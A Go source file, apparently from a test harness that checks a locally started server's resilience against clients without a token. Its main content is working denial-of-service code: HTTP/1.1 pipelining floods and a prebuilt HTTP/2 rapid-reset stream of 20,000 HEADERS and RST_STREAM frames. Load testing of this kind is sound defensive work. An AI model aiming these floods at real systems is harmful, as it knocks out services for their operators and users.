package row

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frontWays are those of a client that has no token.
func frontWays() []hostileWay {
	ways := make([]hostileWay, 0, 3)
	for _, n := range []int{64, 16} {
		ways = append(ways, hostileWay{
			name:   fmt.Sprintf("%d connections without a token that pipeline", n),
			atOnce: n, alone: true, attack: pipeline,
		})
	}
	return append(ways, hostileWay{
		name:   "4 connections without a token that reset requests over HTTP/2",
		atOnce: 4, alone: true, secure: true, attack: reset,
	})
}

// frontBatch is how many requests are written at once.
const frontBatch = 200

// frontPath is what the i-th connection asks for: each way that a request without a token ends.
func frontPath(i int) string { return []string{"/healthz", "/nowhere", "/locks/a"}[i%3] }

// connect dials the server, and reads and drops what that sends until ctx or the connection ends.
func (a *attack) connect(ctx context.Context, config *tls.Config) (conn net.Conn, host string) {
	u, err := url.Parse(a.base)
	if err != nil {
		return nil, ""
	}
	if conn, err = new(net.Dialer).DialContext(ctx, "tcp", u.Host); err != nil {
		return nil, ""
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	if config != nil {
		conn = tls.Client(conn, config)
	}
	return conn, u.Host
}

// pipeline sends requests on one connection, without waiting for an answer, until it is cut off.
func pipeline(ctx context.Context, a *attack, i, _ int) {
	conn, host := a.connect(ctx, nil)
	if conn == nil {
		return
	}
	defer conn.Close()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	many := strings.Repeat("GET "+frontPath(i)+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n", frontBatch)
	for err := error(nil); err == nil; {
		_, err = io.WriteString(conn, many)
	}
}

// reset begins requests on one connection of HTTP/2 and resets each at once, until it is cut off.
func reset(ctx context.Context, a *attack, _, _ int) {
	config := toOurs()
	config.NextProtos = []string{http2.NextProtoTLS}
	conn, host := a.connect(ctx, config)
	if conn == nil {
		return
	}
	defer conn.Close()
	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	a.making.Do(func() { a.resets = resetsOf(host) })
	_, _ = conn.Write(a.resets) // fails when it is cut off
}

// resetsOf is what such a connection sends. It is made once: the attack takes little of the
// processors.
func resetsOf(host string) []byte {
	const requests = 20_000
	var out, head bytes.Buffer // nothing that is written to memory fails
	framer, packer := http2.NewFramer(&out, nil), hpack.NewEncoder(&head)
	out.WriteString(http2.ClientPreface)
	_ = framer.WriteSettings()
	for i := range requests {
		head.Reset()
		for _, field := range [][2]string{
			{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", frontPath(i)},
		} {
			_ = packer.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
		}
		stream := uint32(2*i + 1)
		_ = framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: stream, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true,
		})
		_ = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
	}
	return out.Bytes()
}

// certFlag has the server serve TLS.
const certFlag = "--tls-cert"

// toOurs takes any certificate: the server has just been started here.
func toOurs() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true} //nolint:gosec // G402: see above
}

// certificate makes one, and returns the flags with which a server shows it.
func (b *bench) certificate() ([]string, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
	}
	cert, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return nil, err
	}
	private, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		return nil, err
	}
	var text bytes.Buffer
	_ = pem.Encode(&text, &pem.Block{Type: "CERTIFICATE", Bytes: cert}) // into memory
	_ = pem.Encode(&text, &pem.Block{Type: "PRIVATE KEY", Bytes: private})
	file := filepath.Join(b.dir, "tls.pem")
	return []string{certFlag, file, "--tls-key", file}, os.WriteFile(file, text.Bytes(), 0o600)
}
